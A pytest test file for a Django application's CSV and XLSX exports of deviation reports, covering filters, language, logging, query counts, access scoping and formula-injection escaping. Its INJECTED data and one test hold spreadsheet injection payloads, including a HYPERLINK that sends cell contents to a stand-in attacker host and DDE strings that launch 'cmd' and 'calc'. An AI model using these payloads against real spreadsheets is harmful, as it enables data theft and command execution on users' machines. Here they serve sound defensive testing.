"""The controller's exports of deviation reports (R25: the controller collects the reports and
reports on them): CSV streamed, XLSX answered at once when small, both holding exactly the
reports of the list's filter, safe against formula injection, in the user's language, each
logged; rows read in a fixed number of queries whatever their number."""

import csv
import io

import openpyxl
import pytest
import time_machine
from django.conf import settings
from django.core.signals import request_finished
from django.db import close_old_connections
from django.urls import reverse
from django.utils import translation

from deviations.models import DeviationExport, DeviationSource, DeviationState, ExportState
from deviations.permissions import deviation_access_for
from deviations.selectors_controller import DeviationFilter
from deviations.selectors_exports import EXPORT_COLUMNS
from deviations.services_exports import deviation_export_queue
from deviations.views_exports import DeviationExportCsvView
from tests.deviations.factories_deviations import (
    NOW,
    SUMMARY,
    WHAT_HAPPENED,
    D,
    DeviationScene,
    deviation_scene_fixture,  # noqa: F401 - the fixture dev
)
from tests.factories import member
from units.models import Role

pytestmark = pytest.mark.django_db

CSV_URL = reverse("deviations:export_csv")
XLSX_URL = reverse("deviations:export_xlsx")
INJECTED = {
    "what_happened": '=HYPERLINK("http://angripare.example/?q="&A1,"Läs mer")',
    "perception": "+46 70 123 45 67 ringde två gånger",
    "improvement_proposals": "-2+3+cmd|' /C calc'!A0",
}
ENGLISH_HEADER = [
    "Report no.",
    "Date",
    "Reporting unit",
    "Units concerned",
    "Source",
    "State",
    "What happened",
    "How the reporting unit perceived it",
    "Improvement proposals",
    "Joint summary with the solution",
    "Remaining problems",
    "Action",
    "Follow-up of the action",
    "Part 1 sent",
    "Signed by (name, title, date)",
    "Sent to the controller",
    "Filed",
    "Days to close",
]
COLUMN = {key: index for index, (key, _h, _w) in enumerate(EXPORT_COLUMNS)}


@pytest.fixture(autouse=True)
def _now():
    with time_machine.travel(NOW, tick=False):
        yield


def _english(client) -> None:
    client.cookies[settings.LANGUAGE_COOKIE_NAME] = "en"


def _csv(response) -> list[list[str]]:
    body = b"".join(response.streaming_content)
    assert body.startswith(b"\xef\xbb\xbf")  # the BOM: Excel reads the file as UTF-8
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig")), delimiter=";"))


def _xlsx(response) -> list[list]:
    content = b"".join(response.streaming_content)
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    return [[cell.value for cell in row] for row in sheet.iter_rows()]


def _signature_text(dev: DeviationScene) -> str:
    return (
        "Dana Deputy, Biträdande enhetschef, 2026-11-10; "
        "Olle Beroende, Biträdande enhetschef, 2026-11-10"
    )


def test_r25_the_csv_holds_the_reports_sent_to_the_controller_with_every_column(client, dev):
    # given reports earlier in the flow, one sent and one filed, all through the services
    dev.report_in(DeviationState.DRAFT)
    dev.report_in(DeviationState.SIGNED)
    sent = dev.report_in(DeviationState.SENT)
    filed = dev.report_in(DeviationState.FILED)
    client.force_login(dev.controller)
    _english(client)

    # when the controller exports the list as CSV
    response = client.get(CSV_URL)

    # then the download is a streamed CSV of the sent and the filed report, newest first
    assert response.status_code == 200
    assert response.streaming
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="avvikelser-')
    rows = _csv(response)
    assert rows[0] == ENGLISH_HEADER
    assert [row[0] for row in rows[1:]] == [str(filed.pk), str(sent.pk)]
    assert dict(zip(ENGLISH_HEADER, rows[1], strict=True)) == {
        "Report no.": str(filed.pk),
        "Date": "2026-11-10",
        "Reporting unit": "Barn och ungdom",
        "Units concerned": "Beroendevården",
        "Source": "Entered by hand",
        "State": "Filed by the controller",
        "What happened": WHAT_HAPPENED,
        "How the reporting unit perceived it": "Vi hann inte förbereda ärendet.",
        "Improvement proposals": "Gemensam mall för kallelser.",
        "Joint summary with the solution": SUMMARY,
        "Remaining problems": "Helgdagar före möten.",
        "Action": "Beroende skickar kallelser en vecka före.",
        "Follow-up of the action": "2027-02-01",
        "Part 1 sent": "2026-11-10 09:00",
        "Signed by (name, title, date)": _signature_text(dev),
        "Sent to the controller": "2026-11-10 09:00",
        "Filed": "2026-11-10 09:00",
        "Days to close": "0",
    }
    assert rows[2][COLUMN["state"]] == "Sent to the controller"
    assert rows[2][COLUMN["filed_at"]] == ""
    assert rows[2][COLUMN["days_to_close"]] == ""


def test_the_header_and_labels_are_in_the_language_of_the_request(client, dev):
    dev.report_in(DeviationState.SENT)
    client.force_login(dev.controller)

    swedish = _csv(client.get(CSV_URL))
    _english(client)
    english = _csv(client.get(CSV_URL))

    # the stream is read after the request's language is reset, yet each file keeps its own
    assert swedish[0][COLUMN["reported_on"]] == "Datum"
    assert english[0][COLUMN["reported_on"]] == "Date"
    assert swedish[1][COLUMN["state"]] == "Skickad till verksamhetscontrollern"
    assert english[1][COLUMN["state"]] == "Sent to the controller"


def test_text_that_would_run_as_a_formula_is_exported_as_text(client, dev):
    # given a report whose texts start like spreadsheet formulas, with Swedish letters
    report = dev.advance(dev.draft(**INJECTED), DeviationState.SENT)
    extra = dev.at_controller(
        reported_on=D(2026, 11, 2),
        remaining_problems="@SUM(1+1)*cmd|' /C calc'!A0",
        action="=1+1 åtgärd för Ängelholm",
    )
    client.force_login(dev.controller)

    # when the controller exports as CSV and as XLSX
    rows = {row[0]: row for row in _csv(client.get(CSV_URL))[1:]}
    sheet = _xlsx(client.post(XLSX_URL))

    # then the CSV shows each such cell as text (a leading apostrophe), the rest untouched
    first = rows[str(report.pk)]
    for field, text in INJECTED.items():
        assert first[COLUMN[field]] == "'" + text
    assert rows[str(extra.pk)][COLUMN["remaining_problems"]] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert rows[str(extra.pk)][COLUMN["action"]] == "'=1+1 åtgärd för Ängelholm"
    assert rows[str(extra.pk)][COLUMN["what_happened"]] == WHAT_HAPPENED
    # and the XLSX holds the exact text in string cells, never a formula
    by_id = {row[0]: row for row in sheet[1:]}
    for field, text in INJECTED.items():
        assert by_id[report.pk][COLUMN[field]] == text
    assert by_id[extra.pk][COLUMN["action"]] == "=1+1 åtgärd för Ängelholm"
    content = b"".join(client.post(XLSX_URL).streaming_content)
    workbook = openpyxl.load_workbook(io.BytesIO(content))
    cells = [cell for row in workbook.active.iter_rows(min_row=2) for cell in row]
    assert all(cell.data_type != "f" for cell in cells)


def test_the_export_holds_exactly_the_filtered_reports(client, dev):
    # given reports of several dates, unit pairs and sources at the controller
    january = dev.at_controller(reported_on=D(2026, 1, 20), filed_after_days=5)
    march = dev.at_controller(reported_on=D(2026, 3, 3))
    escalation = dev.at_controller(
        reported_on=D(2026, 3, 10), source=DeviationSource.ESCALATION_OVERDUE
    )
    psykiatri = dev.at_controller(
        reported_on=D(2026, 3, 12),
        reporting_unit=dev.psykiatri,
        concerned_units=[dev.bou],
    )
    client.force_login(dev.controller)

    def exported(**query) -> list[int]:
        rows = _csv(client.get(CSV_URL, query))
        return [int(row[0]) for row in rows[1:]]

    # then each filter of the list gives its reports, newest first
    assert exported() == [psykiatri.pk, escalation.pk, march.pk, january.pk]
    assert exported(date_from="2026-03-01", date_to="2026-03-11") == [escalation.pk, march.pk]
    assert exported(unit_a=dev.bou.pk, unit_b=dev.psykiatri.pk) == [psykiatri.pk]
    assert exported(source=DeviationSource.ESCALATION_OVERDUE) == [escalation.pk]
    assert exported(state=DeviationState.FILED) == [january.pk]
    # and the filtered rows' days to close are the list's
    assert _csv(client.get(CSV_URL, {"state": "filed"}))[1][COLUMN["days_to_close"]] == "5"


def test_a_refused_filter_exports_nothing_and_keeps_what_was_typed(client, dev):
    dev.report_in(DeviationState.SENT)
    client.force_login(dev.controller)
    _english(client)

    # when the last day comes before the first
    response = client.get(CSV_URL, {"date_from": "2026-12-01", "date_to": "2026-11-01"})

    # then nothing is exported or logged, the reason is given and the dates are kept
    assert response.status_code == 400
    page = response.content.decode()
    assert "The last day comes before the first day." in page
    assert 'value="2026-12-01"' in page
    assert 'value="2026-11-01"' in page
    assert not DeviationExport.objects.exists()
    assert client.post(XLSX_URL + "?unit_a=999999").status_code == 400
    assert not DeviationExport.objects.exists()


def test_every_export_is_logged_with_who_what_filter_rows_and_format(client, dev):
    dev.report_in(DeviationState.SENT)
    dev.report_in(DeviationState.FILED)
    client.force_login(dev.controller)

    # when the controller exports a filtered CSV and an XLSX
    _csv(client.get(CSV_URL, {"date_from": "2026-11-01", "state": ["sent", "filed"]}))
    _xlsx(client.post(XLSX_URL + f"?unit_a={dev.bou.pk}"))

    # then each is a row of the export log
    csv_log, xlsx_log = DeviationExport.objects.order_by("pk")
    assert csv_log.requested_by == dev.controller
    assert (csv_log.format, csv_log.delivery, csv_log.state) == ("csv", "direct", "done")
    assert (csv_log.rows_total, csv_log.rows_written) == (2, 2)
    assert csv_log.filters == {"date_from": "2026-11-01", "states": ["sent", "filed"]}
    assert list(csv_log.organisations.all()) == [dev.organisation]
    assert csv_log.language == "sv"
    assert csv_log.finished_at is not None
    assert (xlsx_log.format, xlsx_log.delivery, xlsx_log.state) == ("xlsx", "direct", "done")
    assert xlsx_log.filters == {"unit_a": dev.bou.pk}
    assert (xlsx_log.rows_total, xlsx_log.rows_written) == (2, 2)
    assert xlsx_log.file_name == ""  # nothing is kept of a direct export


def test_a_download_broken_off_is_logged_as_such(dev, rf, monkeypatch):
    for day in (3, 4, 5):
        dev.at_controller(reported_on=D(2026, 11, day))
    monkeypatch.setattr("portal.exports.CSV_ROWS_PER_CHUNK", 1)  # one line a chunk
    request = rf.get(CSV_URL)
    request.user = dev.controller
    with translation.override("en"):
        response = DeviationExportCsvView.as_view()(request)

    # when the download stops after the first report's line, and the server closes the
    # response as it does when the client goes away
    chunks = iter(response.streaming_content)
    for _chunk in range(2):  # the BOM with the header, the first report
        next(chunks)
    request_finished.disconnect(close_old_connections)  # the test keeps its connection
    try:
        response.close()
    finally:
        request_finished.connect(close_old_connections)

    # then the log says so, with how far it came
    export = DeviationExport.objects.get()
    assert export.state == ExportState.FAILED
    assert (export.rows_total, export.rows_written) == (3, 1)
    assert export.error == "The download was broken off before the end."


def _count_export_queries(client, make_reports, django_assert_max_num_queries, limit):
    make_reports()
    client.get(reverse("deviations:export_list"))  # the session's activity is recorded once
    with django_assert_max_num_queries(limit) as captured:
        rows = _csv(client.get(CSV_URL))
    return len(captured.captured_queries), len(rows) - 1


def test_the_csv_takes_the_same_queries_for_one_report_and_for_many(
    client, dev, django_assert_max_num_queries
):
    client.force_login(dev.controller)
    # session, user, roles, deviation access, count; the log (its checks, insert and
    # organisations, in savepoints); the three row queries (reports, units concerned,
    # signatures); closing the log
    limit = 21

    # one report, with signatures
    one, rows_one = _count_export_queries(
        client,
        lambda: dev.report_in(DeviationState.FILED),
        django_assert_max_num_queries,
        limit,
    )

    # many more, and every row read in chunks of a server-side cursor
    def many():
        for day in range(1, 29):
            dev.at_controller(
                reported_on=D(2026, 10, day),
                concerned_units=[dev.beroende, dev.psykiatri],
                filed_after_days=day % 3 or None,
            )

    count_many, rows_many = _count_export_queries(
        client, many, django_assert_max_num_queries, limit
    )

    assert (rows_one, rows_many) == (1, 29)
    assert count_many == one


def test_a_small_xlsx_is_the_answer_itself(client, dev, settings):
    settings.DEVIATION_XLSX_INLINE_MAX_ROWS = 2
    filed = dev.report_in(DeviationState.FILED)
    older = dev.at_controller(reported_on=D(2026, 9, 1), filed_after_days=12)
    client.force_login(dev.controller)
    _english(client)

    # when the controller exports as XLSX
    response = client.post(XLSX_URL)

    # then the file comes at once, with typed cells
    assert response.status_code == 200
    assert response["Content-Type"] == (
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    assert response["Content-Disposition"].startswith('attachment; filename="avvikelser-')
    rows = _xlsx(response)
    assert rows[0] == ENGLISH_HEADER
    assert [row[0] for row in rows[1:]] == [filed.pk, older.pk]
    assert rows[1][COLUMN["reported_on"]].isoformat() == "2026-11-10T00:00:00"
    assert rows[1][COLUMN["concerned_units"]] == "Beroendevården"
    assert rows[1][COLUMN["signed_by"]] == _signature_text(dev)
    assert rows[1][COLUMN["submitted_at"]].isoformat() == "2026-11-10T09:00:00"
    assert rows[2][COLUMN["days_to_close"]] == 12
    assert rows[2][COLUMN["signed_by"]] is None
    assert DeviationExport.objects.get().delivery == "direct"


def test_the_xlsx_page_tells_how_many_rows_and_how_they_come(client, dev, settings):
    settings.DEVIATION_XLSX_INLINE_MAX_ROWS = 2
    for day in (3, 4):
        dev.at_controller(reported_on=D(2026, 11, day))
    client.force_login(dev.controller)
    _english(client)

    small = client.get(XLSX_URL, {"date_from": "2026-11-04"}).content.decode()
    dev.at_controller(reported_on=D(2026, 11, 5))
    large = client.get(XLSX_URL).content.decode()

    assert "Reports in the filter: 1." in small
    assert "prepared in the background" not in small
    assert f'action="{XLSX_URL}?date_from=2026-11-04"' in small
    assert "Reports in the filter: 3." in large
    assert "prepared in the background" in large
    assert not DeviationExport.objects.exists()  # looking is not exporting


def test_the_export_links_carry_the_lists_filter(client, dev):
    client.force_login(dev.controller)
    query = f"date_from=2026-01-01&unit_a={dev.bou.pk}"

    page = client.get(reverse("deviations:controller_list") + "?" + query).content.decode()

    assert f'href="{CSV_URL}?date_from=2026-01-01&amp;unit_a={dev.bou.pk}"' in page
    assert f'action="{XLSX_URL}?date_from=2026-01-01&amp;unit_a={dev.bou.pk}"' in page
    assert f'href="{reverse("deviations:export_list")}"' in page


def test_another_organisations_controller_exports_none_of_these_reports(client, dev):
    dev.report_in(DeviationState.SENT)
    client.force_login(dev.other_controller)

    rows = _csv(client.get(CSV_URL))

    assert len(rows) == 1  # the header alone


def test_the_export_list_shows_the_users_own_exports(client, dev):
    # given an export by the controller and one by a colleague, controller of the same district
    dev.report_in(DeviationState.SENT)
    colleague = member(Role.CONTROLLER, organisation=dev.organisation)
    client.force_login(colleague)
    _csv(client.get(CSV_URL))
    theirs = DeviationExport.objects.get()
    client.force_login(dev.controller)
    _english(client)
    _csv(client.get(CSV_URL, {"unit_a": dev.bou.pk, "unit_b": dev.beroende.pk}))
    mine = DeviationExport.objects.exclude(pk=theirs.pk).get()

    # when the controller opens their exports
    page = client.get(reverse("deviations:export_list")).content.decode()

    # then their own export is listed with its filter in words, the colleague's is not
    assert f'id="export-{mine.pk}"' in page
    assert f'id="export-{theirs.pk}"' not in page
    assert "Between Barn och ungdom and Beroendevården" in page
    assert "Downloaded at once" in page


def test_the_export_log_is_read_only_in_the_admin_for_the_organisations_administrators(client, dev):
    # given an export in the district and one in Östhammar
    dev.report_in(DeviationState.SENT)
    for controller in (dev.controller, dev.other_controller):
        client.force_login(controller)
        _csv(client.get(CSV_URL))
    district, osthammar = DeviationExport.objects.order_by("pk")
    client.force_login(member(Role.ADMINISTRATOR, organisation=dev.organisation))
    log = "/admin/deviations/deviationexport/"

    # then the district's administrator sees the district's log, and cannot change it
    listing = client.get(log)
    assert listing.status_code == 200
    assert {export.pk for export in listing.context["cl"].result_list} == {district.pk}
    page = client.get(f"{log}{district.pk}/change/")
    assert page.status_code == 200
    assert 'name="_save"' not in page.content.decode()
    assert client.get(f"{log}add/").status_code == 403
    assert client.post(f"{log}{district.pk}/delete/", {"post": "yes"}).status_code == 403
    assert client.get(f"{log}{osthammar.pk}/change/").status_code == 302  # as missing
    assert DeviationExport.objects.count() == 2


def test_the_export_list_takes_the_same_queries_for_one_export_and_for_many(
    client, dev, django_assert_max_num_queries
):
    access = deviation_access_for(dev.controller)
    client.force_login(dev.controller)
    client.get(reverse("deviations:export_list"))  # the session's activity is recorded once

    def ask(unit) -> None:
        deviation_export_queue(
            actor=dev.controller,
            access=access,
            filters=DeviationFilter(unit_a=unit.pk, unit_b=dev.beroende.pk),
            rows_total=1,
        )

    counts = []
    for units in ([dev.bou], [dev.psykiatri, dev.bou] * 10):
        for unit in units:
            ask(unit)
        with django_assert_max_num_queries(7) as captured:
            page = client.get(reverse("deviations:export_list"))
        counts.append(len(captured.captured_queries))
        assert page.content.decode().count('<tr id="export-') == 1 + 20 * (len(counts) - 1)

    assert counts[0] == counts[1]
